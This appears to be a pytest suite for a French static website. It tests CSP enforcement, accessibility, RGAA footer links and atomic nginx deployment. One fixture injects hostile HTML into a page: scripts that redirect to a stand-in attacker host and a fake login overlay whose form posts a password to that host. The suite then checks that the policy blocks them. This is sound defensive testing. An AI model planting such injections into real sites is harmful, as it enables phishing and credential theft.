"""Trust in the served site: on every page type, nginx with the production configuration
and CSP, no request leaving the server, no CSP violation, and no axe-core violation at
WCAG 2.1 A/AA. Every page also links the pages RGAA requires.

The pages are picked from the built site (the first of each kind), so the tests follow
the content instead of naming one fiche that may be renamed.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from outils import Sortantes

ROOT = Path(__file__).resolve().parents[2]
AXE = ROOT / "node_modules" / "axe-core" / "axe.min.js"
AXE_TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]

# Page type → folder of the site whose first sub-page is visited ("" = the folder itself).
PAGE_TYPES: dict[str, tuple[str, bool]] = {
    "accueil": ("", False),
    "fiche": ("fiches", True),
    "champ": ("tableau", True),
    "dispositif": ("dispositifs", True),
    "tableau": ("tableau", False),
    "glossaire": ("glossaire", False),
    "procedure": ("procedures", True),
    "texte": ("textes", True),
    "organisation": ("organisation", False),
    "cadre": ("cadre", True),
    "recherche": ("recherche", False),
}

# Recorded by the browser itself, before any page script runs: the CSP violations the
# page reports (the console message alone can be missed when a script is blocked early).
_CSP_LISTENER = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__violations.push(e.violatedDirective + ' ' + (e.blockedURI || '') + ' '
                           + (e.sourceFile || '') + ':' + (e.lineNumber || 0));
});
"""


def chemin(site_dir: Path, type_page: str) -> str:
    folder, first_child = PAGE_TYPES[type_page]
    if not first_child:
        return f"/{folder}/" if folder else "/"
    children = sorted(p.parent.name for p in (site_dir / folder).glob("*/index.html"))
    assert children, f"aucune page dans {folder}/ : le site n'a plus ce type de page"
    return f"/{folder}/{children[0]}/"


def ouvrir_recherche(pg: Any) -> None:
    """Results shown on the search page (Pagefind), for a query with French stemming."""
    pg.locator("#ref-resultats .ref-resultat__titre a").first.wait_for(state="visible")


def visiter(pg: Any, serveur: str, site_dir: Path, type_page: str) -> Any:
    pg.add_init_script(_CSP_LISTENER)
    query = "?q=expulsion" if type_page == "recherche" else ""
    response = pg.goto(serveur + chemin(site_dir, type_page) + query, wait_until="networkidle")
    assert response.status == 200
    if type_page == "recherche":
        ouvrir_recherche(pg)
    return response


def axe(pg: Any) -> list[dict[str, Any]]:
    """axe-core's violations; injected through the DevTools protocol, so not an inline
    script the page's CSP would (rightly) refuse."""
    pg.evaluate(AXE.read_text(encoding="utf-8"))
    result = pg.evaluate(
        "async (tags) => await axe.run(document, {runOnly: {type: 'tag', values: tags},"
        " resultTypes: ['violations']})",
        AXE_TAGS,
    )
    return list(result["violations"])


@pytest.mark.browser
@pytest.mark.parametrize("type_page", sorted(PAGE_TYPES))
def test_aucune_requete_externe_ni_violation_csp(
    page: Any, serveur: str, site_dir: Path, type_page: str, sortantes: Sortantes
) -> None:
    response = visiter(page, serveur, site_dir, type_page)
    csp = response.headers.get("content-security-policy", "")
    assert (
        "default-src 'none'" in csp
        and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
    )
    page.wait_for_load_state("networkidle")
    violations = page.evaluate("window.__violations")
    assert sortantes.externes == []
    assert violations == [] and sortantes.csp == []


@pytest.mark.browser
def test_la_csp_bloque_un_script_injecte(page: Any, serveur: str, site_dir: Path) -> None:
    """The listener above does see violations: a script injected into the page (as a
    gap in the checker would let one through) is refused and reported."""
    visiter(page, serveur, site_dir, "fiche")
    page.evaluate("""() => { const s = document.createElement('script');
                             s.textContent = 'window.__injecte = true'; document.body.append(s); }""")
    page.wait_for_function("window.__violations.length > 0")
    assert page.evaluate("window.__injecte") is None
    assert page.evaluate("window.__violations")[0].startswith("script-src")


@pytest.mark.browser
@pytest.mark.parametrize("type_page", sorted(PAGE_TYPES))
def test_accessibilite_axe(
    page: Any, serveur: str, site_dir: Path, type_page: str, artefacts: Path
) -> None:
    visiter(page, serveur, site_dir, type_page)
    violations = axe(page)
    if violations:
        (artefacts / f"axe-{type_page}.json").write_text(
            json.dumps(violations, ensure_ascii=False, indent=1), encoding="utf-8"
        )
    resume = [(v["id"], v["impact"], [n["target"] for n in v["nodes"]][:3]) for v in violations]
    assert resume == []


@pytest.mark.browser
@pytest.mark.parametrize("type_page", ["accueil", "fiche", "tableau"])
def test_pages_rgaa_liees_depuis_chaque_page(
    page: Any, serveur: str, site_dir: Path, type_page: str
) -> None:
    visiter(page, serveur, site_dir, type_page)
    pied = page.locator("footer")
    for libelle, cible in (
        ("Accessibilité", "/accessibilite/"),
        ("Plan du site", "/plan-du-site/"),
        ("Contact", "/contact/"),
    ):
        lien = pied.get_by_role("link", name=libelle, exact=False).first
        href = lien.get_attribute("href")
        assert href is not None
        assert page.request.get(serveur + chemin_absolu(page.url, href)).status == 200, cible
        assert chemin_absolu(page.url, href).endswith(cible)


def chemin_absolu(url: str, href: str) -> str:
    from urllib.parse import urljoin, urlparse

    return urlparse(urljoin(url, href)).path


# --- deployment ----------------------------------------------------------------------


def test_deploiement_bascule_atomique_et_retour_arriere(tmp_path: Path) -> None:
    """A small built site stands for the real one: the switch is what is tested (the real
    site's own gates are test_liens and the scan)."""
    import os
    import subprocess
    import sys

    site_dir = tmp_path / "site"
    (site_dir / "fiches").mkdir(parents=True)
    (site_dir / "index.html").write_text(
        '<!doctype html><html lang="fr"><title>R</title><a href="fiches/">Fiches</a></html>',
        encoding="utf-8",
    )
    (site_dir / "fiches" / "index.html").write_text(
        "<!doctype html><title>F</title>", encoding="utf-8"
    )

    env = {**os.environ, "REFERENTIEL": str(Path(sys.executable).parent / "referentiel")}
    racine = tmp_path / "publication"

    def deployer(version: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [str(ROOT / "scripts" / "deployer.sh"), str(site_dir), str(racine), version, "true"],
            capture_output=True,
            text=True,
            env=env,
            check=False,
        )

    assert deployer("v1").returncode == 0
    assert os.readlink(racine / "courant") == "releases/v1"
    assert (racine / "courant" / "index.html").read_bytes() == (
        site_dir / "index.html"
    ).read_bytes()
    assert "Content-Security-Policy" in (racine / "courant.conf").read_text(encoding="utf-8")
    assert deployer("v2").returncode == 0
    assert os.readlink(racine / "courant") == "releases/v2"
    # Rollback: the published release is switched back to, not copied again.
    marker = racine / "releases" / "v1" / "marqueur"
    marker.write_text("v1", encoding="utf-8")
    assert deployer("v1").returncode == 0
    assert os.readlink(racine / "courant") == "releases/v1" and marker.exists()
    assert not [p.name for p in (racine / "releases").iterdir() if p.name.startswith(".")]
    assert deployer("../hors").returncode == 2


def test_configuration_nginx_de_production_valide(site_dir: Path, tmp_path: Path) -> None:
    """The shipped server block, filled in as deployer.sh's layout expects, passes `nginx -t`."""
    import shutil
    import subprocess

    from outils import nginx_conf

    conf = nginx_conf(site_dir, 8080, tmp_path)
    nginx = shutil.which("nginx") or "/usr/sbin/nginx"
    run = subprocess.run(
        [nginx, "-t", "-p", str(tmp_path), "-c", str(conf)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0, run.stderr


# --- CSP: what the project does not ship is blocked, what it ships works ---------------

# Injected as a gap in every earlier gate would let it through: a plain script, one shaped
# like Material's own (the CSP once hashed anything template-shaped), a handler, and two
# overlays (a style attribute and a <style> element) that would cover the page with a
# fake login form.
_INJECTE = """
<script>window.__pirate = 1</script>
<script>__md_scope=new URL("https://pirate.example/",location),window.__pirate_gabarit=1</script>
<script>window.location.replace(["https://pirate.example/",window.location.search,window.location.hash].join(""))</script>
<img src="/assets/images/absente.png" onerror="window.__pirate_attribut=1">
<div id="faux-login" style="position:fixed;inset:0;z-index:99999;background:#fff">
  <form action="https://pirate.example/"><input name="mdp"></form></div>
<style>#faux-login-2 { position: fixed; inset: 0; z-index: 99999; }</style>
<div id="faux-login-2">Session expirée</div>
"""


@pytest.fixture
def serveur_pirate(site_dir: Path, tmp_path: Path) -> Any:
    """A copy of the built site with hostile code in one fiche, served by nginx with
    the shipped server block and the shipped headers."""
    import shutil
    import subprocess
    import time
    import urllib.request

    from outils import nginx_conf

    copie = tmp_path / "site"
    shutil.copytree(site_dir, copie)
    fiche = chemin(copie, "fiche")
    html = copie / fiche.strip("/") / "index.html"
    html.write_text(
        html.read_text(encoding="utf-8").replace("</article>", _INJECTE + "</article>", 1),
        encoding="utf-8",
    )
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = int(s.getsockname()[1])
    workdir = tmp_path / "nginx"
    workdir.mkdir()
    conf = nginx_conf(copie, port, workdir)
    nginx = shutil.which("nginx") or "/usr/sbin/nginx"
    proc = subprocess.Popen([nginx, "-p", str(workdir), "-c", str(conf)])
    base = f"http://127.0.0.1:{port}"
    for _ in range(100):
        try:
            urllib.request.urlopen(base + "/", timeout=1)
            break
        except OSError:
            time.sleep(0.05)
    yield base + fiche
    proc.terminate()
    proc.wait(timeout=10)


@pytest.mark.browser
def test_csp_bloque_script_et_surcouche_injectes_dans_une_page(
    page: Any, serveur_pirate: str
) -> None:
    page.add_init_script(_CSP_LISTENER)
    response = page.goto(serveur_pirate, wait_until="networkidle")
    assert response.status == 200
    assert "'unsafe-inline'" not in response.headers["content-security-policy"]
    page.wait_for_function("window.__violations.length >= 6")
    assert page.url == serveur_pirate  # Material's redirect script, re-aimed: blocked
    for flag in ("__pirate", "__pirate_gabarit", "__pirate_attribut"):
        assert page.evaluate(f"window.{flag}") is None, flag
    for overlay in ("#faux-login", "#faux-login-2"):
        assert page.locator(overlay).evaluate("e => getComputedStyle(e).position") != "fixed"
    directives = {v.split()[0] for v in page.evaluate("window.__violations")}
    assert {"script-src-elem", "script-src-attr", "style-src-attr", "style-src-elem"} <= directives
    # The page's own features still run on the same page: Material's scripts did.
    assert page.evaluate("typeof __md_get") == "function"


@pytest.mark.browser
def test_fonctions_du_site_sans_violation_csp(
    page: Any, serveur: str, site_dir: Path, sortantes: Sortantes
) -> None:
    """Search, tooltips and « Orienter » work under the shipped policy, with no
    violation reported by the browser on any of the three."""
    page.add_init_script(_CSP_LISTENER)
    # Search (Pagefind, its WebAssembly module and worker).
    page.goto(serveur + "/recherche/?q=expulsion", wait_until="networkidle")
    ouvrir_recherche(page)
    assert page.locator("#ref-resultats .ref-resultat__titre a").count() > 0
    assert page.evaluate("window.__violations") == []
    # Tooltips of sigles.
    for html in sorted((site_dir / "fiches").glob("*/index.html")):
        if "<abbr title=" in html.read_text(encoding="utf-8"):
            page.goto(f"{serveur}/fiches/{html.parent.name}/", wait_until="networkidle")
            break
    sigle = page.locator("article abbr.ref-sigle[tabindex='0']").first
    sigle.focus()
    bulle = page.get_by_role("tooltip")
    assert bulle.is_visible() and bulle.inner_text() == sigle.get_attribute("data-forme-developpee")
    assert page.evaluate("window.__violations") == []
    # Orienter.
    page.goto(serveur + "/orienter/", wait_until="networkidle")
    page.get_by_label("Ce que dit la personne").fill("expulsion")
    assert page.locator("section.ref-besoin:visible").count() > 0
    assert page.evaluate("window.__violations") == []
    assert sortantes.csp == [] and sortantes.externes == []


def test_chaque_script_en_ligne_du_site_construit_est_livre(site_dir: Path) -> None:
    """The allow-list covers the real build (else a feature would be blocked): every
    executable inline script of every page is one of the shipped bodies."""
    from referentiel.publish.scan import KnownScripts, parse

    known = KnownScripts()
    inconnus = [
        (p.relative_to(site_dir).as_posix(), s.body[:60])
        for p in sorted(site_dir.rglob("*.html"))
        for s in parse(site_dir, p.relative_to(site_dir).as_posix()).scripts
        if s.body not in known
    ]
    assert inconnus == []
